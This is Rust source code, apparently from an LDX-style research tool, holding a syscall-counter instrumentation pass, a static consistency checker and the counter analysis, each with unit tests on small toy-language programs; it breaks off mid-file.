                EdgeKind::Backedge { lp, sub } => vec![Instr::LoopBackedge {
                    loop_id: loop_id(*lp),
                    sub: *sub,
                }],
                EdgeKind::Exit { exits, add } => {
                    let mut v = Vec::new();
                    for (pos, &i) in exits.iter().enumerate() {
                        let last = pos + 1 == exits.len();
                        v.push(Instr::LoopExit {
                            loop_id: loop_id(i),
                            add: if last { *add } else { 0 },
                        });
                    }
                    v
                }
            };
            if !instrs.is_empty() {
                planned.push((key, instrs));
            }
        }

        let compensation_instrs = planned
            .iter()
            .flat_map(|(_, v)| v.iter())
            .filter(|i| matches!(i, Instr::CntAdd { .. }))
            .count()
            + func
                .blocks
                .iter()
                .flat_map(|b| b.instrs.iter())
                .filter(|i| matches!(i, Instr::CntAdd { .. }))
                .count();

        for ((p, n), instrs) in planned {
            split_edge(func, p, n, instrs);
        }

        func.loop_count = counters.instrumented_loops.len() as u32;

        let added_instrs = func.instr_count() - original_instrs;
        reports.push(FuncReport {
            name: func.name.clone(),
            original_instrs,
            added_instrs,
            compensation_instrs,
            instrumented_loops: counters.instrumented_loops.len(),
            recursive_call_sites,
            indirect_call_sites,
            syscall_sites,
            output_syscall_sites,
            fcnt: counters.fcnt,
        });
    }

    let max_cnt = analysis.max_cnt(program);
    let fcnt = (0..out.functions.len())
        .map(|i| analysis.fcnt(FuncId(i as u32)))
        .collect();
    InstrumentedProgram {
        program: out,
        fcnt,
        report: InstrumentationReport::new(reports, max_cnt),
    }
}

/// Splits edge `p -> n`, placing `instrs` on a new block along it.
fn split_edge(func: &mut FuncBody, p: BlockId, n: BlockId, instrs: Vec<Instr>) {
    let mid = func.push_block(BasicBlock {
        instrs,
        term: Terminator::Jump(n),
    });
    func.block_mut(p).term.retarget(n, mid);
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn build(src: &str) -> InstrumentedProgram {
        instrument(&lower(&compile(src).unwrap()))
    }

    fn count_instr(func: &FuncBody, pred: impl Fn(&Instr) -> bool) -> usize {
        func.instrs().filter(|(_, i)| pred(i)).count()
    }

    #[test]
    fn no_instrumentation_without_branching_syscall_difference() {
        let ip = build("fn main() { let fd = open(\"f\", 0); close(fd); }");
        let f = ip.program().func(ip.program().main());
        assert_eq!(count_instr(f, Instr::is_instrumentation), 0);
        assert_eq!(ip.fcnt(ip.program().main()), 2);
    }

    #[test]
    fn branch_with_uneven_syscalls_gets_compensation() {
        let ip = build(
            r#"fn main() {
                if (getpid() > 0) {
                    write(1, "a");
                    write(1, "b");
                }
                close(1);
            }"#,
        );
        let f = ip.program().func(ip.program().main());
        let adds: Vec<u64> = f
            .instrs()
            .filter_map(|(_, i)| match i {
                Instr::CntAdd { delta } => Some(*delta),
                _ => None,
            })
            .collect();
        assert_eq!(adds, vec![2], "else edge compensated by the arm max");
    }

    #[test]
    fn loop_gets_enter_backedge_exit() {
        let ip = build(
            r#"fn main() {
                let i = 0;
                while (i < 3) {
                    write(1, str(i));
                    i = i + 1;
                }
            }"#,
        );
        let f = ip.program().func(ip.program().main());
        assert_eq!(count_instr(f, |i| matches!(i, Instr::LoopEnter { .. })), 1);
        assert_eq!(
            count_instr(f, |i| matches!(i, Instr::LoopBackedge { .. })),
            1
        );
        assert_eq!(count_instr(f, |i| matches!(i, Instr::LoopExit { .. })), 1);
        assert_eq!(f.loop_count, 1);
    }

    #[test]
    fn loop_backedge_resets_by_in_loop_increment() {
        let ip = build(
            r#"fn main() {
                let i = 0;
                while (i < 3) {
                    write(1, "x");
                    write(1, "y");
                    i = i + 1;
                }
            }"#,
        );
        let f = ip.program().func(ip.program().main());
        let sub = f
            .instrs()
            .find_map(|(_, i)| match i {
                Instr::LoopBackedge { sub, .. } => Some(*sub),
                _ => None,
            })
            .unwrap();
        assert_eq!(sub, 2);
        let add = f
            .instrs()
            .find_map(|(_, i)| match i {
                Instr::LoopExit { add, .. } => Some(*add),
                _ => None,
            })
            .unwrap();
        assert_eq!(add, 3, "exit raises strictly past in-loop max");
    }

    #[test]
    fn recursive_calls_marked_fresh() {
        let ip = build(
            r#"
            fn fact(n) { write(1, "."); if (n <= 1) { return 1; } return n * fact(n - 1); }
            fn main() { fact(3); }
            "#,
        );
        let fid = ip.program().func_id("fact").unwrap();
        let f = ip.program().func(fid);
        let fresh = f
            .instrs()
            .filter_map(|(_, i)| match i {
                Instr::Call { fresh_frame, .. } => Some(*fresh_frame),
                _ => None,
            })
            .collect::<Vec<_>>();
        assert_eq!(fresh, vec![true]);
        // main's call to fact is not recursive.
        let mainf = ip.program().func(ip.program().main());
        let fresh_main = mainf
            .instrs()
            .filter_map(|(_, i)| match i {
                Instr::Call { fresh_frame, .. } => Some(*fresh_frame),
                _ => None,
            })
            .collect::<Vec<_>>();
        assert_eq!(fresh_main, vec![false]);
        assert_eq!(ip.report().functions[0].recursive_call_sites, 1);
    }

    #[test]
    fn return_paths_compensated_to_fcnt() {
        // One return after 1 syscall, another after 3.
        let ip = build(
            r#"
            fn f(x) {
                if (x) {
                    write(1, "a");
                    return 1;
                }
                write(1, "b");
                write(1, "c");
                write(1, "d");
                return 2;
            }
            fn main() { f(1); }
            "#,
        );
        let fid = ip.program().func_id("f").unwrap();
        assert_eq!(ip.fcnt(fid), 3);
        let f = ip.program().func(fid);
        // The early-return block must contain cnt += 2.
        let adds: Vec<u64> = f
            .instrs()
            .filter_map(|(_, i)| match i {
                Instr::CntAdd { delta } => Some(*delta),
                _ => None,
            })
            .collect();
        assert!(adds.contains(&2), "early return compensated: {adds:?}");
    }

    #[test]
    fn report_totals_are_consistent() {
        let ip = build(
            r#"
            fn helper(x) { write(1, str(x)); return x; }
            fn main() {
                let fd = open("f", 0);
                for (let i = 0; i < 4; i = i + 1) { helper(i); }
                if (getpid() > 2) { send(connect("h"), "data"); }
                close(fd);
            }
            "#,
        );
        let r = ip.report();
        assert_eq!(r.functions.len(), 2);
        let total_added: usize = r.functions.iter().map(|f| f.added_instrs).sum();
        assert!(total_added > 0);
        assert!(r.instrumented_fraction() > 0.0 && r.instrumented_fraction() < 1.0);
        assert!(r.max_cnt >= 4);
        let sinks: usize = r.functions.iter().map(|f| f.output_syscall_sites).sum();
        assert_eq!(sinks, 2); // write in helper + send in main
    }

    #[test]
    fn figure2_employee_example_counters() {
        // The worked example of paper Fig. 2/3: checks the FCNT values the
        // paper derives (SRaise: 2, MRaise: 3, main total: 7).
        let ip = build(
            r#"
            fn sraise(salary) {
                let fd = open("contract", 0);
                let rate = int(read(fd, 4));
                return salary * rate / 100;
            }
            fn mraise(salary) {
                let r = sraise(salary);
                if (salary > 1000) {
                    write(2, "senior manager");
                }
                return r + 10;
            }
            fn main() {
                let fd = open("employee", 0);
                let rec = read(fd, 64);
                let title = substr(rec, 0, 7);
                let salary = int(substr(rec, 8, 6));
                let raise = 0;
                if (title == "STAFF") {
                    raise = sraise(salary);
                } else {
                    raise = mraise(salary);
                    let dept = read(fd, 8);
                }
                send(connect("hr.example"), str(raise));
            }
            "#,
        );
        let p = ip.program();
        assert_eq!(ip.fcnt(p.func_id("sraise").unwrap()), 2);
        assert_eq!(ip.fcnt(p.func_id("mraise").unwrap()), 3);
        // open + read + max(2, 3+1) + connect + send = 8.
        assert_eq!(ip.fcnt(p.main()), 8);
        // The STAFF arm (2 syscalls) must be compensated by +2 relative to
        // the MANAGER arm (4 syscalls).
        let f = p.func(p.main());
        let adds: Vec<u64> = f
            .instrs()
            .filter_map(|(_, i)| match i {
                Instr::CntAdd { delta } => Some(*delta),
                _ => None,
            })
            .collect();
        assert!(
            adds.contains(&2),
            "compensation on the STAFF edge: {adds:?}"
        );
    }
}
