//! Static consistency checking of instrumented programs.
//!
//! This module mechanically verifies the invariant the whole LDX alignment
//! scheme rests on (paper §4.1): in an instrumented function, **the counter
//! value at every program point is path-independent** — whatever path
//! reaches a block, the counter arrives with the same value. The checker
//! symbolically pushes counter deltas through the CFG and reports any edge
//! whose source and target disagree, any return that does not end at
//! `FCNT`, and any point where the counter would go negative.
//!
//! The property tests in this crate run the checker over randomly generated
//! programs; the dual-execution engine relies on it transitively.

use crate::pass::InstrumentedProgram;
use ldx_ir::{FuncId, Instr, IrProgram, Terminator};
use std::collections::VecDeque;
use std::error::Error;
use std::fmt;

/// A violation of the counter-consistency invariant.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConsistencyError {
    /// The function in which the violation occurred.
    pub function: String,
    /// Human-readable description of the violation.
    pub detail: String,
}

impl fmt::Display for ConsistencyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "counter inconsistency in `{}`: {}",
            self.function, self.detail
        )
    }
}

impl Error for ConsistencyError {}

/// Checks every function of an instrumented program.
///
/// # Errors
///
/// Returns the first [`ConsistencyError`] found, if any. Use
/// [`check_counter_consistency_all`] to collect every violation instead.
pub fn check_counter_consistency(ip: &InstrumentedProgram) -> Result<(), ConsistencyError> {
    match check_counter_consistency_all(ip).into_iter().next() {
        Some(e) => Err(e),
        None => Ok(()),
    }
}

/// Checks every function and returns **all** violations found, in function
/// order — an empty vector means the program is consistent. Diagnosing a
/// broken instrumentation pass usually needs the full list: the first
/// inconsistent edge is rarely the only one.
pub fn check_counter_consistency_all(ip: &InstrumentedProgram) -> Vec<ConsistencyError> {
    let program = ip.program();
    let mut violations = Vec::new();
    for (fid, _) in program.iter_funcs() {
        check_function(program, ip, fid, &mut violations);
    }
    violations
}

fn block_delta(program: &IrProgram, ip: &InstrumentedProgram, fid: FuncId, b: usize) -> i128 {
    program.func(fid).blocks[b]
        .instrs
        .iter()
        .map(|i| match i {
            Instr::Syscall { .. } => 1,
            Instr::Call {
                func: callee,
                fresh_frame,
                ..
            } => {
                if *fresh_frame {
                    0
                } else {
                    ip.fcnt(*callee) as i128
                }
            }
            Instr::CntAdd { delta } => *delta as i128,
            Instr::LoopExit { add, .. } => *add as i128,
            Instr::LoopBackedge { sub, .. } => -(*sub as i128),
            _ => 0,
        })
        .sum()
}

fn check_function(
    program: &IrProgram,
    ip: &InstrumentedProgram,
    fid: FuncId,
    violations: &mut Vec<ConsistencyError>,
) {
    let func = program.func(fid);
    let err = |detail: String| ConsistencyError {
        function: func.name.clone(),
        detail,
    };

    let n = func.blocks.len();
    let mut in_val: Vec<Option<i128>> = vec![None; n];
    in_val[func.entry.index()] = Some(0);
    let mut queue = VecDeque::from([func.entry]);

    while let Some(b) = queue.pop_front() {
        let input = in_val[b.index()].expect("queued blocks have values");
        let out = input + block_delta(program, ip, fid, b.index());
        if out < 0 {
            violations.push(err(format!("counter goes negative ({out}) in block {b}")));
        }
        match &func.block(b).term {
            Terminator::Return(_) => {
                if out != ip.fcnt(fid) as i128 {
                    violations.push(err(format!(
                        "return in block {b} ends at {out}, expected FCNT {}",
                        ip.fcnt(fid)
                    )));
                }
            }
            term => {
                for s in term.successors() {
                    match in_val[s.index()] {
                        None => {
                            in_val[s.index()] = Some(out);
                            queue.push_back(s);
                        }
                        Some(existing) if existing != out => {
                            // Record the clash but keep the first-seen
                            // value, so downstream blocks are still
                            // checked against one consistent assignment.
                            violations.push(err(format!(
                                "block {s} reached with counter {out} via {b} \
                                 but {existing} via another path"
                            )));
                        }
                        Some(_) => {}
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pass::instrument;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn check(src: &str) {
        let ip = instrument(&lower(&compile(src).unwrap()));
        check_counter_consistency(&ip).unwrap();
    }

    #[test]
    fn straight_line_consistent() {
        check("fn main() { let fd = open(\"f\", 0); close(fd); }");
    }

    #[test]
    fn branches_consistent() {
        check(
            r#"fn main() {
                if (getpid() > 0) { write(1, "a"); write(1, "b"); }
                else { write(1, "c"); }
                close(1);
            }"#,
        );
    }

    #[test]
    fn loops_consistent() {
        check(
            r#"fn main() {
                let fd = open("f", 0);
                for (let i = 0; i < 10; i = i + 1) {
                    if (i % 2 == 0) { write(1, "even"); }
                    else { write(1, "odd"); write(1, "!"); }
                }
                close(fd);
            }"#,
        );
    }

    #[test]
    fn nested_loops_with_breaks_consistent() {
        check(
            r#"fn main() {
                let i = 0;
                while (i < 10) {
                    let j = 0;
                    while (j < 10) {
                        if (read(1, 1) == "q") { break; }
                        j = j + 1;
                    }
                    if (j == 5) { break; }
                    i = i + 1;
                    write(1, str(i));
                }
                close(1);
            }"#,
        );
    }

    #[test]
    fn early_returns_consistent() {
        check(
            r#"
            fn f(x) {
                if (x == 1) { return 1; }
                write(1, "a");
                if (x == 2) { write(1, "b"); return 2; }
                write(1, "c");
                return 3;
            }
            fn main() { f(getpid()); }
            "#,
        );
    }

    #[test]
    fn recursion_and_indirect_calls_consistent() {
        check(
            r#"
            fn fact(n) { write(1, "."); if (n <= 1) { return 1; } return n * fact(n - 1); }
            fn emit(x) { write(1, str(x)); return 0; }
            fn main() {
                fact(4);
                let f = &emit;
                f(9);
                write(1, "done");
            }
            "#,
        );
    }

    #[test]
    fn continue_paths_consistent() {
        check(
            r#"fn main() {
                for (let i = 0; i < 9; i = i + 1) {
                    if (i % 3 == 0) { continue; }
                    write(1, str(i));
                    if (i % 3 == 1) { continue; }
                    write(1, "second");
                }
            }"#,
        );
    }

    #[test]
    fn detects_broken_instrumentation() {
        // Build a correct program, then sabotage it by injecting a bogus
        // counter bump on one branch arm only.
        let src = r#"fn main() {
            if (getpid() > 0) { write(1, "a"); } else { write(1, "b"); }
            close(1);
        }"#;
        let mut ip = instrument(&lower(&compile(src).unwrap()));
        check_counter_consistency(&ip).unwrap();
        // Sabotage: find a block whose terminator is a branch and append a
        // CntAdd to its first successor.
        let program = ip.program().clone();
        let main = program.main();
        let func = program.func(main);
        let target = func
            .block_ids()
            .find_map(|b| match &func.block(b).term {
                Terminator::Branch { then_bb, .. } => Some(*then_bb),
                _ => None,
            })
            .unwrap();
        // Rebuild a sabotaged copy through the public API surface.
        let mut broken_prog = program.clone();
        broken_prog.functions[main.index()].blocks[target.index()]
            .instrs
            .push(Instr::CntAdd { delta: 7 });
        let sabotaged = InstrumentedSabotage::rewrap(&ip, broken_prog);
        let errv = check_counter_consistency(&sabotaged).unwrap_err();
        assert!(errv.detail.contains("via"), "got: {errv}");
        let _ = &mut ip;
    }

    #[test]
    fn collects_every_violation_across_functions() {
        // Sabotage one branch arm in each of two functions: the collecting
        // checker reports both, the first-error wrapper reports the first.
        let src = r#"
            fn helper(x) {
                if (x > 0) { write(1, "p"); } else { write(1, "n"); }
                return 0;
            }
            fn main() {
                if (getpid() > 0) { write(1, "a"); } else { write(1, "b"); }
                helper(2);
            }
        "#;
        let ip = instrument(&lower(&compile(src).unwrap()));
        assert!(check_counter_consistency_all(&ip).is_empty());
        let mut broken_prog = ip.program().clone();
        for func in &mut broken_prog.functions {
            let target = func
                .block_ids()
                .find_map(|b| match &func.block(b).term {
                    Terminator::Branch { then_bb, .. } => Some(*then_bb),
                    _ => None,
                })
                .unwrap();
            func.blocks[target.index()]
                .instrs
                .push(Instr::CntAdd { delta: 7 });
        }
        let sabotaged = InstrumentedSabotage::rewrap(&ip, broken_prog);
        let all = check_counter_consistency_all(&sabotaged);
        assert!(all.len() >= 2, "one violation per function: {all:?}");
        let functions: std::collections::BTreeSet<&str> =
            all.iter().map(|e| e.function.as_str()).collect();
        assert_eq!(functions.len(), 2, "both functions reported: {all:?}");
        let first = check_counter_consistency(&sabotaged).unwrap_err();
        assert_eq!(first, all[0], "the wrapper returns the first violation");
    }

    /// Test helper: rebuilds an `InstrumentedProgram` with a replaced
    /// program body (only possible inside the crate).
    struct InstrumentedSabotage;
    impl InstrumentedSabotage {
        fn rewrap(ip: &InstrumentedProgram, program: IrProgram) -> InstrumentedProgram {
            let mut clone = ip.clone();
            clone_set_program(&mut clone, program);
            clone
        }
    }

    fn clone_set_program(ip: &mut InstrumentedProgram, program: IrProgram) {
        // Safe internal mutation for tests.
        ip.set_program_for_tests(program);
    }
}
