//! The static counter analysis (paper Algorithm 1 + the loop transformation
//! of Algorithm 3, expressed on basic blocks).
//!
//! For every block `b` of every function the analysis computes
//! `in_cnt[b]`/`out_cnt[b]`: the maximum number of syscalls along any path
//! from the function entry to the beginning/end of `b`, where
//!
//! * a syscall instruction contributes `+1`,
//! * a direct call to a non-recursive function `F` contributes `FCNT[F]`
//!   (the callee's own maximum — functions are processed in reverse
//!   topological call-graph order so `FCNT` is available),
//! * recursive and indirect calls contribute `0` (they run under a fresh
//!   counter frame at runtime, paper §5–6).
//!
//! Loops are made acyclic first: back edges and the exit edges of
//! *instrumented* loops are deleted and dummy edges from each latch to each
//! exit target are added (paper Algorithm 3). Our dummy edges carry weight
//! `+1` — a deliberate strengthening of the paper's scheme so that every
//! counter value after a loop is *strictly* larger than any value inside
//! it, which removes an alignment ambiguity at loop exits (see DESIGN.md).

use ldx_ir::cfg::topo_order;
use ldx_ir::{BlockId, CallGraph, FuncBody, FuncId, Instr, IrProgram, LoopForest, Terminator};
use std::collections::{HashMap, HashSet};

/// Per-function results of the counter analysis.
#[derive(Debug, Clone)]
pub struct FuncCounters {
    /// Counter value at the entry of each block.
    pub in_cnt: Vec<u64>,
    /// Counter value at the end of each block.
    pub out_cnt: Vec<u64>,
    /// The function's total increment (`FCNT`): the maximum `out_cnt` over
    /// return blocks, to which every return path is compensated.
    pub fcnt: u64,
    /// The function's natural loops.
    pub forest: LoopForest,
    /// Indices (into `forest.loops()`) of the loops that require
    /// instrumentation — those that can dynamically perform syscalls.
    pub instrumented_loops: Vec<usize>,
    /// Whether calling this function can dynamically reach a syscall, even
    /// through fresh frames (used to decide loop instrumentation in
    /// callers).
    pub may_syscall: bool,
}

impl FuncCounters {
    /// Whether the loop at forest index `i` is instrumented.
    pub fn loop_is_instrumented(&self, i: usize) -> bool {
        self.instrumented_loops.contains(&i)
    }
}

/// Whole-program counter analysis.
#[derive(Debug, Clone)]
pub struct CounterAnalysis {
    /// Per-function counters, indexed by [`FuncId`].
    pub per_func: Vec<FuncCounters>,
    /// The call graph used to order the analysis and detect recursion.
    pub callgraph: CallGraph,
}

impl CounterAnalysis {
    /// Runs the analysis on an (uninstrumented) program.
    ///
    /// # Panics
    ///
    /// Panics if a function's CFG is irreducible after back-edge removal,
    /// which lowering from structured Lx can never produce.
    pub fn compute(program: &IrProgram) -> Self {
        let callgraph = CallGraph::compute(program);
        let n = program.functions.len();

        // `may_syscall` fixpoint: true if the function contains a syscall
        // or an indirect call (conservatively assumed to reach syscalls),
        // or calls a function for which it is true.
        let mut may_syscall = vec![false; n];
        loop {
            let mut changed = false;
            for (id, func) in program.iter_funcs() {
                if may_syscall[id.index()] {
                    continue;
                }
                let now = func.instrs().any(|(_, i)| match i {
                    Instr::Syscall { .. } | Instr::CallIndirect { .. } => true,
                    Instr::Call { func: callee, .. } => may_syscall[callee.index()],
                    _ => false,
                });
                if now {
                    may_syscall[id.index()] = true;
                    changed = true;
                }
            }
            if !changed {
                break;
            }
        }

        let mut fcnt: Vec<Option<u64>> = vec![None; n];
        let mut per_func: Vec<Option<FuncCounters>> = (0..n).map(|_| None).collect();

        for &fid in &callgraph.reverse_topological_functions() {
            let counters =
                analyze_function(program.func(fid), fid, &callgraph, &fcnt, &may_syscall);
            fcnt[fid.index()] = Some(counters.fcnt);
            per_func[fid.index()] = Some(counters);
        }

        CounterAnalysis {
            per_func: per_func
                .into_iter()
                .map(|c| c.expect("all analyzed"))
                .collect(),
            callgraph,
        }
    }

    /// The counters for function `f`.
    pub fn func(&self, f: FuncId) -> &FuncCounters {
        &self.per_func[f.index()]
    }

    /// `FCNT` of function `f`.
    pub fn fcnt(&self, f: FuncId) -> u64 {
        self.per_func[f.index()].fcnt
    }

    /// The program's maximum static counter value: `FCNT` of `main`
    /// (reported as "Max. Cnt." in paper Table 1).
    pub fn max_cnt(&self, program: &IrProgram) -> u64 {
        self.fcnt(program.main())
    }
}

/// The increment an instruction contributes to its frame's counter.
pub(crate) fn instr_increment(
    instr: &Instr,
    fid: FuncId,
    callgraph: &CallGraph,
    fcnt: &[Option<u64>],
) -> u64 {
    match instr {
        Instr::Syscall { .. } => 1,
        Instr::Call { func: callee, .. } => {
            if callgraph.is_recursive_call(fid, *callee) {
                0 // fresh frame at runtime
            } else {
                fcnt[callee.index()].expect("callee analyzed before caller (reverse topo order)")
            }
        }
        // Indirect calls run under a fresh frame; everything else does not
        // touch the counter.
        _ => 0,
    }
}

/// Whether an instruction means the enclosing loop must be instrumented:
/// anything that can dynamically reach a syscall.
fn is_dynamic_site(
    instr: &Instr,
    fid: FuncId,
    callgraph: &CallGraph,
    may_syscall: &[bool],
) -> bool {
    match instr {
        Instr::Syscall { .. } => true,
        Instr::CallIndirect { .. } => true,
        Instr::Call { func: callee, .. } => {
            may_syscall[callee.index()] || callgraph.is_recursive_call(fid, *callee)
        }
        _ => false,
    }
}

fn analyze_function(
    func: &FuncBody,
    fid: FuncId,
    callgraph: &CallGraph,
    fcnt: &[Option<u64>],
    may_syscall: &[bool],
) -> FuncCounters {
    let nblocks = func.blocks.len();
    let forest = LoopForest::compute(func);

    // Decide which loops need instrumentation: those whose body contains a
    // dynamic syscall site.
    let instrumented_loops: Vec<usize> = forest
        .loops()
        .iter()
        .enumerate()
        .filter(|(_, l)| {
            l.body.iter().any(|&b| {
                func.block(b)
                    .instrs
                    .iter()
                    .any(|i| is_dynamic_site(i, fid, callgraph, may_syscall))
            })
        })
        .map(|(i, _)| i)
        .collect();

    // Build the acyclic edge list: remove every back edge; for instrumented
    // loops also remove exit edges and add +1 dummy edges latch -> exit
    // target.
    let mut removed_exits: HashSet<(BlockId, BlockId)> = HashSet::new();
    let mut dummy_edges: Vec<(BlockId, BlockId)> = Vec::new();
    for &i in &instrumented_loops {
        let l = &forest.loops()[i];
        for &(u, v) in &l.exit_edges {
            removed_exits.insert((u, v));
        }
        let mut exit_targets: Vec<BlockId> = l.exit_edges.iter().map(|&(_, v)| v).collect();
        exit_targets.sort();
        exit_targets.dedup();
        for &t in &l.latches {
            for &n in &exit_targets {
                dummy_edges.push((t, n));
            }
        }
    }

    let mut acyclic_edges: Vec<(BlockId, BlockId)> = Vec::new();
    for b in func.block_ids() {
        for s in func.block(b).term.successors() {
            if forest.is_back_edge(b, s) || removed_exits.contains(&(b, s)) {
                continue;
            }
            acyclic_edges.push((b, s));
        }
    }

    let mut all_edges = acyclic_edges.clone();
    all_edges.extend(dummy_edges.iter().copied());
    let order =
        topo_order(nblocks, &all_edges).expect("CFG reducible: acyclic after back-edge removal");

    // Predecessor lists over the acyclic graph, with dummy flag.
    let mut preds: Vec<Vec<(BlockId, bool)>> = vec![Vec::new(); nblocks];
    for &(u, v) in &acyclic_edges {
        preds[v.index()].push((u, false));
    }
    for &(u, v) in &dummy_edges {
        preds[v.index()].push((u, true));
    }

    let mut in_cnt = vec![0u64; nblocks];
    let mut out_cnt = vec![0u64; nblocks];
    for &b in &order {
        let input = preds[b.index()]
            .iter()
            .map(|&(p, dummy)| out_cnt[p.index()] + u64::from(dummy))
            .max()
            .unwrap_or(0);
        in_cnt[b.index()] = input;
        let delta: u64 = func
            .block(b)
            .instrs
            .iter()
            .map(|i| instr_increment(i, fid, callgraph, fcnt))
            .sum();
        out_cnt[b.index()] = input + delta;
    }

    // FCNT: the maximum over return blocks (every return path will be
    // compensated up to it by the pass).
    let fcnt_value = func
        .block_ids()
        .filter(|&b| matches!(func.block(b).term, Terminator::Return(_)))
        .map(|b| out_cnt[b.index()])
        .max()
        .unwrap_or(0);

    FuncCounters {
        in_cnt,
        out_cnt,
        fcnt: fcnt_value,
        forest,
        instrumented_loops,
        may_syscall: may_syscall[fid.index()],
    }
}

/// Classification of one CFG edge, consumed by the rewriting pass.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum EdgeKind {
    /// A plain edge needing `cnt += delta` compensation (delta > 0), plus
    /// possibly entering instrumented loops (outermost first).
    Plain {
        /// Compensation amount (0 = none needed).
        delta: u64,
        /// Instrumented loops entered by this edge, outermost first.
        enters: Vec<usize>,
    },
    /// A back edge of an instrumented loop.
    Backedge {
        /// Forest index of the loop.
        lp: usize,
        /// Counter reset amount (`out_cnt[latch] - in_cnt[header]`).
        sub: u64,
    },
    /// An exit edge of instrumented loops (innermost first), raising the
    /// counter by `add`.
    Exit {
        /// Instrumented loops exited, innermost first.
        exits: Vec<usize>,
        /// Counter raise (`in_cnt[target] - out_cnt[source]`).
        add: u64,
    },
}

/// Classifies every real edge of `func` given its analysis results.
pub(crate) fn classify_edges(
    func: &FuncBody,
    counters: &FuncCounters,
) -> HashMap<(BlockId, BlockId), EdgeKind> {
    let forest = &counters.forest;
    let mut result = HashMap::new();
    for b in func.block_ids() {
        for s in func.block(b).term.successors() {
            let kind = if forest.is_back_edge(b, s) {
                // Back edge: instrumented loops get the barrier + reset;
                // uninstrumented loops have nothing to reset (no increments
                // inside), which the analysis guarantees.
                match counters.instrumented_loops.iter().find(|&&i| {
                    forest.loops()[i].header == s && forest.loops()[i].latches.contains(&b)
                }) {
                    Some(&i) => EdgeKind::Backedge {
                        lp: i,
                        sub: counters.out_cnt[b.index()] - counters.in_cnt[s.index()],
                    },
                    None => {
                        debug_assert_eq!(
                            counters.out_cnt[b.index()],
                            counters.in_cnt[s.index()],
                            "uninstrumented loop must not change the counter"
                        );
                        EdgeKind::Plain {
                            delta: 0,
                            enters: vec![],
                        }
                    }
                }
            } else {
                // Which instrumented loops does this edge exit / enter?
                let mut exits: Vec<usize> = counters
                    .instrumented_loops
                    .iter()
                    .copied()
                    .filter(|&i| {
                        let l = &forest.loops()[i];
                        l.contains(b) && !l.contains(s)
                    })
                    .collect();
                // Innermost (smallest body) first.
                exits.sort_by_key(|&i| forest.loops()[i].body.len());

                let mut enters: Vec<usize> = counters
                    .instrumented_loops
                    .iter()
                    .copied()
                    .filter(|&i| {
                        let l = &forest.loops()[i];
                        !l.contains(b) && l.contains(s)
                    })
                    .collect();
                // Outermost (largest body) first.
                enters.sort_by_key(|&i| std::cmp::Reverse(forest.loops()[i].body.len()));

                let delta = counters.in_cnt[s.index()] - counters.out_cnt[b.index()];
                if exits.is_empty() {
                    EdgeKind::Plain { delta, enters }
                } else {
                    debug_assert!(
                        enters.is_empty(),
                        "an edge cannot exit one loop and enter another in lowered Lx"
                    );
                    EdgeKind::Exit { exits, add: delta }
                }
            };
            result.insert((b, s), kind);
        }
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn analyze(src: &str) -> (IrProgram, CounterAnalysis) {
        let p = lower(&compile(src).unwrap());
        let a = CounterAnalysis::compute(&p);
        (p, a)
    }

    #[test]
    fn straight_line_counts_syscalls() {
        let (p, a) = analyze(
            r#"fn main() {
                let fd = open("f", 0);
                let d = read(fd, 4);
                close(fd);
            }"#,
        );
        assert_eq!(a.fcnt(p.main()), 3);
        assert_eq!(a.max_cnt(&p), 3);
    }

    #[test]
    fn branch_takes_maximum() {
        // True arm: 2 syscalls; false arm: 1 syscall. Join must see max=2
        // (plus the unconditional open/close around it).
        let (p, a) = analyze(
            r#"fn main() {
                let fd = open("f", 0);
                if (len(read(fd, 4)) > 2) {
                    write(1, "a");
                    write(1, "b");
                } else {
                    write(1, "c");
                }
                close(fd);
            }"#,
        );
        // open + read + max(2, 1) + close = 5.
        assert_eq!(a.fcnt(p.main()), 5);
    }

    #[test]
    fn callee_fcnt_propagates_to_caller() {
        // Mirrors the paper's Fig. 2: SRaise has 2 syscalls (open+read);
        // MRaise = SRaise + max(1, 0 compensated) = 3.
        let (p, a) = analyze(
            r#"
            fn sraise(salary) {
                let fd = open("contract", 0);
                let rate = int(read(fd, 4));
                return salary * rate / 100;
            }
            fn mraise(salary) {
                let r = sraise(salary);
                if (salary > 1000) {
                    write(2, "senior");
                }
                return r + 1;
            }
            fn main() {
                let fd = open("employee", 0);
                let title = read(fd, 8);
                let raise = 0;
                if (title == "STAFF") {
                    raise = sraise(100);
                } else {
                    raise = mraise(100);
                    let dept = read(fd, 8);
                }
                send(connect("hr"), "name");
                send(connect("hr"), str(raise));
            }
            "#,
        );
        let sraise = p.func_id("sraise").unwrap();
        let mraise = p.func_id("mraise").unwrap();
        assert_eq!(a.fcnt(sraise), 2);
        assert_eq!(a.fcnt(mraise), 3);
        // main: open + read + max(sraise=2, mraise+read=4) + 4 sinks
        // (2 connects + 2 sends) = 10.
        assert_eq!(a.fcnt(p.main()), 10);
    }

    #[test]
    fn recursive_calls_contribute_zero() {
        let (p, a) = analyze(
            r#"
            fn walk(n) {
                if (n <= 0) { return 0; }
                write(1, str(n));
                return walk(n - 1);
            }
            fn main() { walk(3); }
            "#,
        );
        let walk = p.func_id("walk").unwrap();
        // One syscall in walk itself; the recursive call adds 0.
        assert_eq!(a.fcnt(walk), 1);
        assert_eq!(a.fcnt(p.main()), 1);
    }

    #[test]
    fn indirect_calls_contribute_zero_but_mark_may_syscall() {
        let (p, a) = analyze(
            r#"
            fn h(x) { write(1, str(x)); return 0; }
            fn main() { let f = &h; f(1); }
            "#,
        );
        assert_eq!(a.fcnt(p.main()), 0);
        assert!(a.func(p.main()).may_syscall);
    }

    #[test]
    fn loop_with_syscall_is_instrumented() {
        let (p, a) = analyze(
            r#"fn main() {
                let i = 0;
                while (i < 5) {
                    write(1, str(i));
                    i = i + 1;
                }
                close(1);
            }"#,
        );
        let fc = a.func(p.main());
        assert_eq!(fc.forest.loops().len(), 1);
        assert_eq!(fc.instrumented_loops, vec![0]);
        // Beyond the loop the counter must exceed every in-loop value:
        // in-loop max is 1 (one write), dummy edge forces exit >= 2, then
        // close adds 1 => fcnt = 3.
        assert_eq!(fc.fcnt, 3);
    }

    #[test]
